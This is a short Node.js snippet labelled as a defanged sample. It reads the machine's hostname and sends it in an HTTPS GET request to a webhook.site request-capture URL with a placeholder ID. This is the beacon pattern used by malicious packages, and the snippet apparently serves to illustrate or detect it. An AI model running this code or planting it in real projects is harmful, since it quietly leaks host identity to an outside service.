// Defanged sample: host identity sent to a request-capture service.
const os = require("os");
const url = "https://webhook.site/00000000-0000-4000-8000-000000000000?h=" + os.hostname();
require("https").get(url);
